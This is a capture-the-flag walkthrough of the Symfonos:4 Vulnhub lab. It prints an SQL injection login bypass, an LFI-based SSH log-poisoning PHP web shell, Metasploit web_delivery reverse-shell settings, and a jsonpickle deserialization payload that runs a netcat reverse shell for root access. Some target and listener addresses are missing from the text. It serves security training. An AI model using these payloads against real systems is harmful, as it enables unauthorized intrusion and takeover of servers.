CTF Challenges

Symfonos:4 Vulnhub Walkthrough

Hello, guys today we are going to take a new challenge Symfonos:4, which is a fourth lab of the series Symfonos. The credit for making this VM machine goes to “Zayotic” and it’s another boot2root challenge where we have to root the server and capture the flag to complete the challenge. You can download this VM here.

Level: IntermediatePenetrating Methodology:

Network Scanning

  • Netdiscover
  • Nmap


  • Browsing HTTP Service
  • Directory Bruteforcing using dirb


  • SQL injection to bypass Login Form
  • Using LFI to read the Logs
  • Using SSH log poisoning using PHP malicious script
  • Using Metasploit to create PHP reverse shell
  • Port Forwarding
  • Encoding and Decoding Cookies

Privilege Escalation

  • Inject netcat reverse shell into Json Pickle string
  • Replacing cookie with Base64 Encoded Reverse Shell
  • Getting Root Access


Network Scanning

We will be running this lab in a Virtual Machine Player or Virtual Box.  But first, let’s discover the IP Address of the lab. i.e


Once the IP Address is acquired. Now we will run an aggressive scan using nmap for proceed further.

nmap -A


For more details, we will need to start enumeration against the host machine. Therefore, we will navigate to a web browser for exploring HTTP service since port 80 is open.

Let’s further enumerate the target machine through a directory Bruteforce. For this, we are going to use the dirb tool. This gave us a page named “atlantis.php” and “sea.php”. After browsing both directories we noticed “sea.php” was redirecting to “atlantis.php”.

dirb /usr/share/wordlists/dirb/big.txt -X .phpSo, browsing Atlantis.php directory came out to be a Login Form. To further enumerate the form, we tried combinations of SQL Injection. After a few tries, we were able to bypass the Login form using ‘or ‘1’=’1’ as a username. And for the password, we gave any random value.

We got a prompt to select a god after successfully bypassing the Login form. We selected any random god i.e Hades and were redirected to a URL which left us inquisitive.

After seeing all the possibilities, it quickly strikes let’s try Local File Inclusion. After trying to find /etc/passwd file but didn’t succeed, after we thought of reading the log file using LFI. And we successfully did read the logs.

For Reference: https://www.hackingarticles.in/rce-with-lfi-and-ssh-log-poisoning/

So we try to inject malicious PHP command via SSH for poisoning auth logs as shown in the image below so that hopefully we can use a ‘C’ parameter to run arbitrary systems commands on the Target Machine.

ssh '<?php system($_GET['c']); ?>'@

Indeed we have to way to execute commands on the target machine. To confirm it we simply checked the idof the Target machine.

Time to Fire Up Metasploit, by using Web-Delivery module we have created a malicious link for PHP reverse shell.

use exploit/multi/script/web_delivery
set target 1
set payload php/meterpreter/reverse_tcp
set lhost 192.168.025

We need to run the above PHP reverse shell in the ‘C’ parameter in the URL as shown in the image.On successfully executing the Shell, We saw a new session is opened. To get the complete meterpreter we need to interact with the opened session. And to confirm we checked the system information.

sessions 1


We thought of checking the ongoing processes. After looking out, we saw an interesting process which was running on but we didn’t see it in our Nmap result because it was an internal process.


Let’s forward the port 8080 to our port 8888.

portfwd add -l 8888 -p 8080 -r

Once done with port forwarding. We browsed the forwarded port 8888 with Localhost on the browser but where getting redirected to a page /whoami.

I guess we need tomanually go back to the main page. Then we got a thought that we might have a cookie for the username.

Without wasting time lets intercept the request of this page using Burp Suite. So the cookie is base64 encoded. We need to decode it.

NOTE: Since port 8080 was busy with another process. So we change the listening of Burpsuite to any random port. Don’t forget to configure it before intercepting the request.

We decoded the cookie using Burp Suite inbuilt decoder. After searching about the decoded string, we came to know it is a jsonpickle string.

{"py/object": "app.User", "username": "Poseidon"}

Making some modification in the jsonpickle string, we added a netcat reverse shell and encoded the whole string into base64.

{"py/object":"__main__.Shell","py/reduce":[{"py/function":"os.system"},["/usr/bin/nc -e /bin/sh 5555"], 0, 0, 0]}

We need to replace the old cookie with thenew base64 encoded string and forward the request in Burp Suite. Also, don’t forget to spawn a netcat listener on port 5555 before forwarding the request on your Kali Terminal.

Privilege Escalation:

We successfully got the netcat session with root access. To confirm we have checked the Id of the user.  The only thing left to do is we went inside the ROOT directory and Read our FLAG.

nc -lvp 5555
cat proof.txt

Author: Ashray Gupta is a Security Researcher and Technical Writer at Hacking Articles. Contributing his 3 years in the field of security as a Penetration Tester and Forensic Computer Analyst. Contact Here